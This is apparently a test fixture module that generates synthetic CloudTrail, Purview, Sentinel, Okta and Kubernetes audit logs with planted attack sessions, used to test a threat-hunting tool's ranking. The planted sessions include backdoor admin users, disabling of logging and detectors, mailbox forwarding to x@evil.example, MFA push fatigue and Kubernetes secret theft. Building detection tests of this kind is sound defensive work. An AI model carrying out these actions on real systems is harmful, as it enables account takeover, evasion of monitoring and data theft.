// Realistic exports of five products, written from their public schemas (field names, nesting, time
// formats and file layout as each product writes them), with routine sessions of several identities and
// planted attack sessions. Seeded: the same seed writes the same files.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect } from "vitest";
import { rng } from "../../src/demo/generate.js";
import type { ShellHistoryRow } from "../../src/demo/shell-history.js";

/** One action of a session: the product-specific fields that vary. */
type Action = Record<string, unknown>;

/** A session to write: who, when it starts, and its actions (one event each, 20-60 s apart). */
interface Planned {
  readonly identity: string;
  readonly startMs: number;
  readonly actions: readonly Action[];
  readonly attack: boolean;
}

/** An attack session as the tests look for it in the ranking. */
export interface PlantedSession {
  readonly identity: string;
  readonly startMs: number;
}

/** What a generator wrote. */
export interface SampleExport {
  /** The path to give seqhunt (a folder or a file). */
  readonly input: string;
  readonly planted: readonly PlantedSession[];
  readonly events: number;
}

const DAY = 86_400_000;
const T0 = Date.UTC(2026, 8, 28, 0, 0, 0);

/** Routine sessions over five days (2-3 per identity per working day) plus the attacks at given times. */
function plan(
  seed: number,
  identities: readonly string[],
  routines: readonly (readonly Action[])[],
  attacks: readonly { identity: string; dayHour: [number, number]; actions: readonly Action[] }[],
): { sessions: Planned[]; random: () => number } {
  const random = rng(seed);
  const sessions: Planned[] = [];
  for (let day = 0; day < 5; day++) {
    for (const identity of identities) {
      const count = 2 + Math.floor(random() * 2);
      for (let s = 0; s < count; s++) {
        const hour = 8 + s * 3 + Math.floor(random() * 2);
        const startMs = T0 + day * DAY + hour * 3_600_000 + Math.floor(random() * 1_800_000);
        const routine = routines[Math.floor(random() * routines.length)] as readonly Action[];
        sessions.push({ identity, startMs, actions: routine, attack: false });
      }
    }
  }
  for (const a of attacks) {
    const startMs = T0 + a.dayHour[0] * DAY + a.dayHour[1] * 3_600_000 + 17 * 60_000;
    sessions.push({ identity: a.identity, startMs, actions: a.actions, attack: true });
  }
  return { sessions, random };
}

/** Every event of the planned sessions in time order: identity, time, action. */
function timeline(planned: {
  sessions: Planned[];
  random: () => number;
}): { identity: string; ms: number; action: Action }[] {
  const events: { identity: string; ms: number; action: Action }[] = [];
  for (const s of planned.sessions) {
    let ms = s.startMs;
    for (const action of s.actions) {
      events.push({ identity: s.identity, ms, action });
      ms += 20_000 + Math.floor(planned.random() * 40_000) + Math.floor(planned.random() * 1000);
    }
  }
  return events.sort((a, b) => a.ms - b.ms);
}

function plantedOf(planned: { sessions: Planned[] }): PlantedSession[] {
  return planned.sessions.filter((s) => s.attack).map((s) => ({ identity: s.identity, startMs: s.startMs }));
}

/** The planted sessions hold the first ranks (as many ranks as there are planted sessions), each under its identity in `identityField`. */
export function expectPlantedOnTop(
  sample: SampleExport,
  sessions: Record<string, unknown>[],
  identityField: string,
) {
  expect(sessions.length).toBeGreaterThan(50);
  const top = sessions.slice(0, sample.planted.length);
  for (const p of sample.planted) {
    const hit = top.find(
      (s) => s[identityField] === p.identity && Math.abs(Date.parse(String(s.start)) - p.startMs) < 2000,
    );
    expect(
      hit,
      `planted session of ${p.identity} at ${new Date(p.startMs).toISOString()} in the top`,
    ).toBeDefined();
  }
}

function uuid(random: () => number): string {
  const hex = () => Math.floor(random() * 16).toString(16);
  const part = (n: number) => Array.from({ length: n }, hex).join("");
  return `${part(8)}-${part(4)}-4${part(3)}-a${part(3)}-${part(12)}`;
}

function write(path: string, content: string | Buffer): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

// ---------------------------------------------------------------- AWS CloudTrail

const ACCOUNT = "123456789012";
const SSO_ROLE = "AWSReservedSSO_AdministratorAccess_0123456789abcdef";

/**
 * CloudTrail log files as S3 delivery lays them out: AWSLogs/<account>/CloudTrail/<region>/YYYY/MM/DD/
 * <account>_CloudTrail_<region>_<YYYYMMDDTHHmmZ>_<id>.json.gz, each `{"Records": [...]}`. Identities are
 * SSO assumed-role ARNs that differ only at their end.
 */
export function writeCloudTrail(dir: string, seed: number): SampleExport {
  const users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
  const arn = (u: string) => `arn:aws:sts::${ACCOUNT}:assumed-role/${SSO_ROLE}/${u}@example.com`;
  const call = (eventSource: string, eventName: string, requestParameters: unknown = null): Action => ({
    eventSource,
    eventName,
    requestParameters,
  });
  const routines = [
    [
      call("signin.amazonaws.com", "ConsoleLogin"),
      call("ec2.amazonaws.com", "DescribeInstances", { maxResults: 50 }),
      call("ec2.amazonaws.com", "DescribeSecurityGroups"),
      call("cloudwatch.amazonaws.com", "GetMetricData"),
      call("ec2.amazonaws.com", "DescribeInstances", { maxResults: 50 }),
    ],
    [
      call("s3.amazonaws.com", "ListBuckets"),
      call("s3.amazonaws.com", "GetBucketLocation", { bucketName: "app-artifacts" }),
      call("s3.amazonaws.com", "GetObject", { bucketName: "app-artifacts", key: "build/app.zip" }),
      call("s3.amazonaws.com", "PutObject", { bucketName: "app-artifacts", key: "build/app.zip" }),
    ],
    [
      call("lambda.amazonaws.com", "ListFunctions20150331"),
      call("lambda.amazonaws.com", "GetFunction20150331v2", { functionName: "billing" }),
      call("logs.amazonaws.com", "DescribeLogStreams", { logGroupName: "/aws/lambda/billing" }),
      call("logs.amazonaws.com", "GetLogEvents", { logGroupName: "/aws/lambda/billing" }),
    ],
  ];
  const attacks = [
    {
      identity: arn("dave"),
      dayHour: [3, 2] as [number, number],
      actions: [
        call("sts.amazonaws.com", "GetCallerIdentity"),
        call("iam.amazonaws.com", "ListUsers"),
        call("iam.amazonaws.com", "CreateUser", { userName: "svc-backup" }),
        call("iam.amazonaws.com", "AttachUserPolicy", {
          userName: "svc-backup",
          policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
        }),
        call("iam.amazonaws.com", "CreateAccessKey", { userName: "svc-backup" }),
        call("cloudtrail.amazonaws.com", "StopLogging", { name: "org-trail" }),
      ],
    },
    {
      identity: arn("grace"),
      dayHour: [4, 23] as [number, number],
      actions: [
        call("s3.amazonaws.com", "ListBuckets"),
        call("s3.amazonaws.com", "GetBucketPolicy", { bucketName: "customer-exports" }),
        call("s3.amazonaws.com", "PutBucketPolicy", { bucketName: "customer-exports" }),
        call("s3.amazonaws.com", "PutBucketAcl", { bucketName: "customer-exports" }),
        call("guardduty.amazonaws.com", "DeleteDetector", { detectorId: "12abc34d567e8fa901bc2d34e56789f0" }),
      ],
    },
  ];
  const planned = plan(seed, users.map(arn), routines, attacks);
  const random = planned.random;
  const records = timeline(planned).map(({ identity, ms, action }) => {
    const user = identity.slice(identity.lastIndexOf("/") + 1);
    return {
      eventVersion: "1.09",
      userIdentity: {
        type: "AssumedRole",
        principalId: `AROA3XFRBF23EXAMPLE:${user}`,
        arn: identity,
        accountId: ACCOUNT,
        accessKeyId: `ASIA${Math.floor(random() * 1e12)}`,
        sessionContext: {
          sessionIssuer: {
            type: "Role",
            principalId: "AROA3XFRBF23EXAMPLE",
            arn: `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com/${SSO_ROLE}`,
            accountId: ACCOUNT,
            userName: SSO_ROLE,
          },
          attributes: {
            creationDate: new Date(ms - 600_000).toISOString().replace(/\.\d+Z$/, "Z"),
            mfaAuthenticated: "false",
          },
        },
      },
      eventTime: new Date(ms).toISOString().replace(/\.\d+Z$/, "Z"),
      eventSource: action.eventSource,
      eventName: action.eventName,
      awsRegion: "us-east-1",
      sourceIPAddress: `203.0.113.${10 + (user.length % 7)}`,
      userAgent: "aws-cli/2.17.5 md/Botocore#1.34.139 ua/2.0 os/linux#6.8.0",
      requestParameters: action.requestParameters,
      responseElements: null,
      requestID: uuid(random),
      eventID: uuid(random),
      readOnly: /^(Get|List|Describe)/.test(String(action.eventName)),
      eventType: "AwsApiCall",
      managementEvent: true,
      recipientAccountId: ACCOUNT,
      eventCategory: "Management",
    };
  });
  // One file per hour, as CloudTrail delivers a file every few minutes per region.
  const byHour = new Map<string, typeof records>();
  for (const r of records) {
    const key = r.eventTime.slice(0, 13);
    byHour.set(key, [...(byHour.get(key) ?? []), r]);
  }
  const root = join(dir, "AWSLogs");
  for (const [hour, recs] of byHour) {
    const [y, m, d] = hour.slice(0, 10).split("-");
    const stamp = `${hour.replace(/-/g, "").replace("T", "T")}00Z`.replace(/:/g, "");
    const name = `${ACCOUNT}_CloudTrail_us-east-1_${stamp}_${uuid(random).slice(0, 16)}.json.gz`;
    write(
      join(root, ACCOUNT, "CloudTrail", "us-east-1", y as string, m as string, d as string, name),
      gzipSync(JSON.stringify({ Records: recs })),
    );
  }
  return { input: root, planted: plantedOf(planned), events: records.length };
}

// ---------------------------------------------------------------- Microsoft Purview / Sentinel

const EXCHANGE_ROUTINES: Action[][] = [
  [
    { Operation: "Get-Mailbox", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
    { Operation: "Get-MailboxPermission", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
    {
      Operation: "Add-MailboxPermission",
      Parameters: [
        { Name: "Identity", Value: "shared-sales" },
        { Name: "AccessRights", Value: "FullAccess" },
      ],
    },
    { Operation: "Get-MailboxPermission", Parameters: [{ Name: "Identity", Value: "shared-sales" }] },
  ],
  [
    { Operation: "Get-DistributionGroup", Parameters: [] },
    { Operation: "Get-DistributionGroupMember", Parameters: [{ Name: "Identity", Value: "all-staff" }] },
    {
      Operation: "Add-DistributionGroupMember",
      Parameters: [
        { Name: "Identity", Value: "all-staff" },
        { Name: "Member", Value: "newhire" },
      ],
    },
  ],
  [
    { Operation: "Get-User", Parameters: [] },
    {
      Operation: "Set-User",
      Parameters: [
        { Name: "Identity", Value: "newhire" },
        { Name: "Department", Value: "Sales" },
      ],
    },
    {
      Operation: "Set-Mailbox",
      Parameters: [
        { Name: "Identity", Value: "newhire" },
        { Name: "ProhibitSendQuota", Value: "49GB" },
      ],
    },
    { Operation: "Get-User", Parameters: [] },
  ],
];
const EXCHANGE_ATTACKS = (victim: string): Action[][] => [
  [
    { Operation: "Get-Mailbox", Parameters: [{ Name: "Identity", Value: victim }] },
    {
      Operation: "New-InboxRule",
      Parameters: [
        { Name: "Mailbox", Value: victim },
        { Name: "ForwardTo", Value: "x@evil.example" },
        { Name: "DeleteMessage", Value: "True" },
      ],
    },
    {
      Operation: "Set-Mailbox",
      Parameters: [
        { Name: "Identity", Value: victim },
        { Name: "ForwardingSmtpAddress", Value: "smtp:x@evil.example" },
      ],
    },
    { Operation: "Remove-MailboxAuditBypassAssociation", Parameters: [] },
  ],
  [
    {
      Operation: "New-ManagementRoleAssignment",
      Parameters: [
        { Name: "Role", Value: "ApplicationImpersonation" },
        { Name: "User", Value: "svc-sync" },
      ],
    },
    {
      Operation: "Add-MailboxPermission",
      Parameters: [
        { Name: "Identity", Value: "ceo" },
        { Name: "AccessRights", Value: "FullAccess" },
      ],
    },
    { Operation: "Set-AdminAuditLogConfig", Parameters: [{ Name: "AdminAuditLogEnabled", Value: "False" }] },
  ],
];
const ADMINS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace"].map(
  (u) => `${u}@contoso.onmicrosoft.com`,
);

function exchangePlan(seed: number) {
  const attacks = EXCHANGE_ATTACKS("cfo");
  return plan(seed, ADMINS, EXCHANGE_ROUTINES, [
    { identity: ADMINS[2] as string, dayHour: [2, 3], actions: attacks[0] as Action[] },
    { identity: ADMINS[5] as string, dayHour: [4, 22], actions: attacks[1] as Action[] },
  ]);
}

function csvCell(v: unknown): string {
  const s = v === null || v === undefined ? "" : String(v);
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * Purview audit log search exported as CSV: RecordId, CreationDate (`2026-09-30T17:45:27.0000000Z `, a
 * trailing space as exported), RecordType, Operation, UserId, AuditData (JSON text with Parameters),
 * AssociatedAdminUnits, AssociatedAdminUnitsNames.
 */
export function writePurview(dir: string, seed: number): SampleExport {
  const planned = exchangePlan(seed);
  const random = planned.random;
  const rows = [
    "RecordId,CreationDate,RecordType,Operation,UserId,AuditData,AssociatedAdminUnits,AssociatedAdminUnitsNames",
  ];
  const events = timeline(planned);
  for (const { identity, ms, action } of events) {
    const id = uuid(random);
    const created = new Date(ms).toISOString().replace(/\.\d+Z$/, ".0000000Z ");
    const audit = {
      CreationTime: new Date(ms).toISOString().slice(0, 19),
      Id: id,
      Operation: action.Operation,
      OrganizationId: "4a1c2b3d-0000-4000-a000-123456789abc",
      RecordType: 1,
      ResultStatus: "True",
      UserKey: `NT AUTHORITY\\SYSTEM (w3wp)`,
      UserType: 2,
      Version: 1,
      Workload: "Exchange",
      ClientIP: "198.51.100.23:53012",
      ObjectId: "",
      UserId: identity,
      AppId: "",
      ClientAppId: "",
      ExternalAccess: false,
      OrganizationName: "contoso.onmicrosoft.com",
      OriginatingServer: "DM6PR11MB4657 (15.20.7918.020)",
      Parameters: action.Parameters,
      SessionId: uuid(random),
    };
    rows.push(
      [id, created, "ExchangeAdmin", action.Operation, identity, JSON.stringify(audit), "", ""]
        .map(csvCell)
        .join(","),
    );
  }
  const path = join(dir, "Audit_Log_Search_Results.csv");
  write(path, `${rows.join("\r\n")}\r\n`);
  return { input: path, planted: plantedOf(planned), events: events.length };
}

/** The Azure portal's US time: `9/30/2026, 5:45:27.226 PM`. */
function portalTime(ms: number): string {
  const d = new Date(ms);
  const h = d.getUTCHours();
  const pad = (n: number, w = 2) => String(n).padStart(w, "0");
  return `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()}, ${h % 12 === 0 ? 12 : h % 12}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)} ${h < 12 ? "AM" : "PM"}`;
}

/**
 * Sentinel OfficeActivity as the Azure portal's Export to CSV writes it: a byte-order mark, headers with
 * ` [UTC]` on time columns, US times, Parameters as JSON text.
 */
export function writeSentinelPortal(dir: string, seed: number): SampleExport {
  const planned = exchangePlan(seed);
  const random = planned.random;
  const header = [
    "TenantId",
    "SourceSystem",
    "TimeGenerated [UTC]",
    "Operation",
    "UserId",
    "ClientIP",
    "OfficeWorkload",
    "RecordType",
    "ResultStatus",
    "Parameters",
    "ElevationTime [UTC]",
    "OrganizationName",
    "Type",
  ];
  const rows = [header.join(",")];
  const events = timeline(planned);
  for (const { identity, ms, action } of events) {
    rows.push(
      [
        "4a1c2b3d-0000-4000-a000-123456789abc",
        "OfficeActivityManager",
        portalTime(ms),
        action.Operation,
        identity,
        `198.51.100.${Math.floor(random() * 200)}`,
        "Exchange",
        "ExchangeAdmin",
        "True",
        JSON.stringify(action.Parameters),
        "",
        "contoso.onmicrosoft.com",
        "OfficeActivity",
      ]
        .map(csvCell)
        .join(","),
    );
  }
  const path = join(dir, "query_data.csv");
  write(path, `\uFEFF${rows.join("\r\n")}\r\n`);
  return { input: path, planted: plantedOf(planned), events: events.length };
}

// ---------------------------------------------------------------- Okta System Log

/** Okta System Log events as /api/v1/logs returns them: a JSON array per page, one file per day. */
export function writeOkta(dir: string, seed: number): SampleExport {
  const users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"].map(
    (u) => `${u}@example.com`,
  );
  const ev = (eventType: string, result = "SUCCESS", target = "Salesforce"): Action => ({
    eventType,
    result,
    target,
  });
  const routines = [
    [
      ev("user.authentication.sso"),
      ev("user.session.start"),
      ev("user.authentication.auth_via_mfa"),
      ev("app.oauth2.as.token.grant"),
    ],
    [
      ev("user.session.start"),
      ev("user.authentication.auth_via_mfa"),
      ev("user.authentication.sso", "SUCCESS", "Slack"),
      ev("user.authentication.sso", "SUCCESS", "GitHub"),
    ],
    [
      ev("user.session.start"),
      ev("user.authentication.auth_via_mfa"),
      ev("user.authentication.sso", "SUCCESS", "Jira"),
      ev("user.session.end"),
    ],
  ];
  const attacks = [
    {
      identity: users[3] as string,
      dayHour: [2, 4] as [number, number],
      actions: [
        ev("user.session.start", "FAILURE"),
        ev("user.session.start", "FAILURE"),
        ev("user.session.start", "FAILURE"),
        ev("user.session.start"),
        ev("system.push.send_factor_verify_push", "FAILURE"),
        ev("system.push.send_factor_verify_push", "FAILURE"),
        ev("user.authentication.auth_via_mfa"),
        ev("user.mfa.factor.activate"),
      ],
    },
    {
      identity: users[6] as string,
      dayHour: [4, 21] as [number, number],
      actions: [
        ev("user.session.start"),
        ev("user.authentication.auth_via_mfa"),
        ev("user.account.privilege.grant", "SUCCESS", "Super administrator"),
        ev("policy.lifecycle.deactivate", "SUCCESS", "MFA policy"),
        ev("system.api_token.create", "SUCCESS", "automation"),
      ],
    },
  ];
  const planned = plan(seed, users, routines, attacks);
  const random = planned.random;
  const events = timeline(planned).map(({ identity, ms, action }) => ({
    actor: {
      id: `00u${identity.length}${identity.charCodeAt(0)}abc`,
      type: "User",
      alternateId: identity,
      displayName: identity.split("@")[0],
      detailEntry: null,
    },
    client: {
      userAgent: {
        rawUserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)",
        os: "Mac OS X",
        browser: "CHROME",
      },
      zone: "null",
      device: "Computer",
      id: null,
      ipAddress: `198.51.100.${identity.length * 3}`,
      geographicalContext: {
        city: "Portland",
        state: "Oregon",
        country: "United States",
        postalCode: "97201",
        geolocation: { lat: 45.5, lon: -122.6 },
      },
    },
    authenticationContext: {
      authenticationProvider: null,
      credentialProvider: null,
      credentialType: null,
      issuer: null,
      interface: null,
      authenticationStep: 0,
      externalSessionId: uuid(random).slice(0, 20),
    },
    displayMessage: String(action.eventType),
    eventType: action.eventType,
    outcome: { result: action.result, reason: action.result === "FAILURE" ? "INVALID_CREDENTIALS" : null },
    published: new Date(ms).toISOString(),
    securityContext: {
      asNumber: 64496,
      asOrg: "example isp",
      isp: "example isp",
      domain: "example.net",
      isProxy: false,
    },
    severity: action.result === "FAILURE" ? "WARN" : "INFO",
    debugContext: {
      debugData: {
        requestId: uuid(random),
        requestUri: "/api/v1/authn",
        url: "/api/v1/authn?",
        threatSuspected: "false",
      },
    },
    legacyEventType: null,
    transaction: { type: "WEB", id: uuid(random).slice(0, 20), detail: {} },
    uuid: uuid(random),
    version: "0",
    request: { ipChain: [{ ip: `198.51.100.${identity.length * 3}`, version: "V4", source: null }] },
    target: [
      {
        id: "0oa1abcd",
        type: "AppInstance",
        alternateId: action.target,
        displayName: action.target,
        detailEntry: null,
      },
    ],
  }));
  const byDay = new Map<string, typeof events>();
  for (const e of events)
    byDay.set(e.published.slice(0, 10), [...(byDay.get(e.published.slice(0, 10)) ?? []), e]);
  const root = join(dir, "okta");
  for (const [day, list] of byDay) write(join(root, `systemlog-${day}.json`), JSON.stringify(list, null, 2));
  return { input: root, planted: plantedOf(planned), events: events.length };
}

// ---------------------------------------------------------------- Kubernetes audit

/** A Kubernetes API server audit log (audit.k8s.io/v1 Event per line), as --audit-log-path writes it. */
export function writeK8sAudit(dir: string, seed: number): SampleExport {
  const users = [
    "alice@example.com",
    "bob@example.com",
    "carol@example.com",
    "system:serviceaccount:ci:deployer",
    "system:serviceaccount:monitoring:prometheus",
    "dave@example.com",
  ];
  const req = (
    verb: string,
    resource: string,
    namespace: string | null,
    name: string | null = null,
    subresource: string | null = null,
  ): Action => ({ verb, resource, namespace, name, subresource });
  const routines = [
    [
      req("list", "pods", "web"),
      req("get", "pods", "web", "web-7d9f"),
      req("get", "pods", "web", "web-7d9f", "log"),
      req("list", "events", "web"),
    ],
    [
      req("get", "deployments", "web", "web"),
      req("patch", "deployments", "web", "web"),
      req("list", "replicasets", "web"),
      req("list", "pods", "web"),
      req("watch", "pods", "web"),
    ],
    [
      req("list", "namespaces", null),
      req("list", "nodes", null),
      req("list", "pods", "monitoring"),
      req("get", "configmaps", "monitoring", "prometheus"),
    ],
  ];
  const attacks = [
    {
      identity: users[3] as string,
      dayHour: [2, 3] as [number, number],
      actions: [
        req("create", "selfsubjectaccessreviews", null),
        req("list", "secrets", "kube-system"),
        req("get", "secrets", "kube-system", "admin-token"),
        req("create", "pods", "kube-system", "debug"),
        req("create", "pods", "kube-system", "debug", "exec"),
      ],
    },
    {
      identity: users[1] as string,
      dayHour: [4, 23] as [number, number],
      actions: [
        req("create", "clusterrolebindings", null, "backdoor-admin"),
        req("create", "serviceaccounts", "default", "backdoor"),
        req("create", "serviceaccounts", "default", "backdoor", "token"),
        req("delete", "events", "default"),
      ],
    },
  ];
  const planned = plan(seed, users, routines, attacks);
  const random = planned.random;
  const micros = (ms: number, extra: number) =>
    new Date(ms).toISOString().replace(/(\.\d{3})Z$/, `$1${String(extra).padStart(3, "0")}Z`);
  const lines = timeline(planned).map(({ identity, ms, action }) => {
    const objectRef: Record<string, unknown> = { resource: action.resource, apiVersion: "v1" };
    if (action.namespace !== null) objectRef.namespace = action.namespace;
    if (action.name !== null) objectRef.name = action.name;
    if (action.subresource !== null) objectRef.subresource = action.subresource;
    const ns = action.namespace === null ? "" : `/namespaces/${action.namespace}`;
    return JSON.stringify({
      kind: "Event",
      apiVersion: "audit.k8s.io/v1",
      level: "Metadata",
      auditID: uuid(random),
      stage: "ResponseComplete",
      requestURI: `/api/v1${ns}/${action.resource}${action.name === null ? "" : `/${action.name}`}${action.subresource === null ? "" : `/${action.subresource}`}`,
      verb: action.verb,
      user: {
        username: identity,
        groups: identity.startsWith("system:")
          ? ["system:serviceaccounts", "system:authenticated"]
          : ["developers", "system:authenticated"],
      },
      sourceIPs: [`10.0.${identity.length}.${Math.floor(random() * 250)}`],
      userAgent: "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505",
      objectRef,
      responseStatus: { metadata: {}, code: action.verb === "create" ? 201 : 200 },
      requestReceivedTimestamp: micros(ms, Math.floor(random() * 1000)),
      stageTimestamp: micros(ms + 40, Math.floor(random() * 1000)),
      annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "" },
    });
  });
  const path = join(dir, "kube-apiserver-audit.jsonl");
  write(path, `${lines.join("\n")}\n`);
  return { input: path, planted: plantedOf(planned), events: lines.length };
}

/**
 * The log {@link writeK8sAudit} wrote, as a policy without `omitStages: [RequestReceived]` writes it to
 * `output`: each request's RequestReceived record, a watch's ResponseStarted, then its ResponseComplete
 * after the next request's RequestReceived (stages of neighbouring requests interleave); every `cutEvery`-th
 * request has its RequestReceived record only (the log ends, or was cut, before it completed). Returns the
 * number of records written.
 */
export function withK8sStages(input: string, output: string, options: { cutEvery?: number } = {}): number {
  const completed = readFileSync(input, "utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as Record<string, unknown>);
  const lines: string[] = [];
  let pending: string | null = null;
  for (const [i, event] of completed.entries()) {
    const { responseStatus: _, ...received } = event;
    const at = { stageTimestamp: event.requestReceivedTimestamp };
    lines.push(JSON.stringify({ ...received, ...at, stage: "RequestReceived" }));
    if (event.verb === "watch") lines.push(JSON.stringify({ ...event, ...at, stage: "ResponseStarted" }));
    if (pending !== null) lines.push(pending);
    const cut = options.cutEvery !== undefined && i % options.cutEvery === options.cutEvery - 1;
    pending = cut ? null : JSON.stringify(event);
  }
  if (pending !== null) lines.push(pending);
  write(output, `${lines.join("\n")}\n`);
  return lines.length;
}

/** The events of an audit log (one per line) as an `EventList` in `list` (kubectl get -o json, a webhook batch). */
export function writeK8sEventList(log: string, list: string): void {
  const items = readFileSync(log, "utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as unknown);
  const eventList = {
    kind: "EventList",
    apiVersion: "audit.k8s.io/v1",
    metadata: { resourceVersion: "" },
    items,
  };
  write(list, JSON.stringify(eventList));
}

// ---------------------------------------------------------------- real exports' other shapes

/** A CloudTrail record with the fields every record has; `userIdentity` as given. */
function trailRecord(userIdentity: unknown, ms: number, action: Action, random: () => number) {
  return {
    eventVersion: "1.10",
    userIdentity,
    eventTime: new Date(ms).toISOString().replace(/\.\d+Z$/, "Z"),
    eventSource: action.eventSource,
    eventName: action.eventName,
    awsRegion: "eu-west-1",
    sourceIPAddress:
      userIdentity !== null && (userIdentity as { type?: string }).type === "AWSService"
        ? String(action.eventSource)
        : "203.0.113.20",
    userAgent: "aws-cli/2.17.5",
    requestParameters: action.requestParameters ?? null,
    responseElements: null,
    requestID: uuid(random),
    eventID: uuid(random),
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: "Management",
  };
}

/**
 * A CloudTrail S3 tree as a trail delivers it, with every kind of `userIdentity`: IAM users, the root user,
 * federated users (each with an `arn`), IAM Identity Center users (`onBehalfOf.userId`, no `arn`), a principal
 * of another account (`AWSAccount`: `principalId`, no `arn`) and AWS services (`invokedBy` only) whose calls
 * come in files of their own. Beside the logs, as CloudTrail writes them: `CloudTrail-Digest/` files (no
 * Records), a `CloudTrail-Insight/` file (no userIdentity) and an hour with an empty `{"Records": []}`.
 * The planted sessions are an Identity Center user's and the other account's principal's: `identity` is
 * the value seqhunt should name each by.
 */
export function writeCloudTrailAllIdentities(dir: string, seed: number): SampleExport {
  const who = new Map<string, unknown>();
  const iam = (u: string) => {
    const arn = `arn:aws:iam::${ACCOUNT}:user/${u}`;
    who.set(arn, {
      type: "IAMUser",
      principalId: `AIDA${u.toUpperCase()}EXAMPLE`,
      arn,
      accountId: ACCOUNT,
      userName: u,
    });
    return arn;
  };
  const idc = (n: number) => {
    const userId = `${n}44894e8-80c1-707f-60e3-3ba6510dfac${n}`;
    who.set(userId, {
      type: "IdentityCenterUser",
      accountId: ACCOUNT,
      onBehalfOf: {
        userId,
        identityStoreArn: `arn:aws:identitystore::${ACCOUNT}:identitystore/d-9067642ac7`,
      },
      credentialId: `EXAMPLE${n}VHULjJdTUdPJfofVa1sufHDoj7aYcOYcxFVllWR_Whr1fEXAMPLE`,
    });
    return userId;
  };
  const rootArn = `arn:aws:iam::${ACCOUNT}:root`;
  who.set(rootArn, { type: "Root", principalId: ACCOUNT, arn: rootArn, accountId: ACCOUNT, accessKeyId: "" });
  const fedArn = `arn:aws:sts::${ACCOUNT}:federated-user/Bob`;
  who.set(fedArn, { type: "FederatedUser", principalId: `${ACCOUNT}:Bob`, arn: fedArn, accountId: ACCOUNT });
  const other = "AROA999OTHEREXAMPLE:partner-sync";
  who.set(other, { type: "AWSAccount", principalId: other, accountId: "999988887777" });
  const services = ["config.amazonaws.com", "cloudformation.amazonaws.com"];
  for (const s of services) who.set(s, { type: "AWSService", invokedBy: s });
  const people = [iam("alice"), iam("bob"), iam("carol"), rootArn, fedArn, idc(1), idc(2), idc(3), other];
  const call = (eventSource: string, eventName: string, requestParameters: unknown = null): Action => ({
    eventSource,
    eventName,
    requestParameters,
  });
  const routines = [
    [
      call("s3.amazonaws.com", "ListBuckets"),
      call("s3.amazonaws.com", "GetBucketLocation", { bucketName: "reports" }),
      call("s3.amazonaws.com", "GetObject", { bucketName: "reports", key: "q3.csv" }),
      call("s3.amazonaws.com", "ListBuckets"),
    ],
    [
      call("ec2.amazonaws.com", "DescribeInstances"),
      call("ec2.amazonaws.com", "DescribeVolumes"),
      call("cloudwatch.amazonaws.com", "GetMetricData"),
      call("ec2.amazonaws.com", "DescribeInstances"),
    ],
    [
      call("kms.amazonaws.com", "Decrypt"),
      call("kms.amazonaws.com", "GenerateDataKey"),
      call("kms.amazonaws.com", "Decrypt"),
      call("kms.amazonaws.com", "GenerateDataKey"),
    ],
  ];
  const attacks = [
    {
      identity: people[6] as string,
      dayHour: [2, 3] as [number, number],
      actions: [
        call("sts.amazonaws.com", "GetCallerIdentity"),
        call("iam.amazonaws.com", "ListRoles"),
        call("iam.amazonaws.com", "CreateUser", { userName: "svc-backup" }),
        call("iam.amazonaws.com", "CreateAccessKey", { userName: "svc-backup" }),
        call("cloudtrail.amazonaws.com", "StopLogging", { name: "org-trail" }),
      ],
    },
    {
      identity: other,
      dayHour: [4, 22] as [number, number],
      actions: [
        call("sts.amazonaws.com", "GetCallerIdentity"),
        call("s3.amazonaws.com", "PutBucketPolicy", { bucketName: "reports" }),
        call("s3.amazonaws.com", "PutBucketAcl", { bucketName: "reports" }),
        call("guardduty.amazonaws.com", "DeleteDetector", { detectorId: "12abc34d" }),
      ],
    },
  ];
  // Services run the same calls all day: routine, never planted.
  const serviceRoutine = [
    call("kms.amazonaws.com", "Decrypt"),
    call("s3.amazonaws.com", "GetBucketAcl", { bucketName: "reports" }),
    call("s3.amazonaws.com", "PutObject", { bucketName: "reports" }),
  ];
  const planned = plan(seed, [...people, ...services], routines, attacks);
  for (const s of planned.sessions)
    if (services.includes(s.identity)) Object.assign(s, { actions: serviceRoutine });
  const random = planned.random;
  const records = timeline(planned).map(({ identity, ms, action }) => ({
    service: services.includes(identity),
    record: trailRecord(who.get(identity), ms, action, random),
  }));
  const root = join(dir, "AWSLogs");
  const day = (t: string) => t.slice(0, 10).split("-") as [string, string, string];
  const files = new Map<string, unknown[]>();
  for (const { service, record } of records) {
    // Services' calls in files of their own, as a trail delivers a file per few minutes.
    const key = `${record.eventTime.slice(0, 13)}${service ? "s" : "p"}`;
    files.set(key, [...(files.get(key) ?? []), record]);
  }
  files.set("2026-09-29T05e", []);
  for (const [key, recs] of files) {
    const [y, m, d] = day(key);
    const stamp = `${key.slice(0, 13).replace(/-/g, "")}00Z`;
    const name = `${ACCOUNT}_CloudTrail_eu-west-1_${stamp}_${key.slice(13)}${uuid(random).slice(0, 12)}.json.gz`;
    write(
      join(root, ACCOUNT, "CloudTrail", "eu-west-1", y, m, d, name),
      gzipSync(JSON.stringify({ Records: recs })),
    );
  }
  for (const [y, m, d] of [day("2026-09-28"), day("2026-09-29")]) {
    const digest = {
      awsAccountId: ACCOUNT,
      digestStartTime: `${y}-${m}-${d}T00:00:00Z`,
      digestEndTime: `${y}-${m}-${d}T01:00:00Z`,
      digestS3Bucket: "trail-bucket",
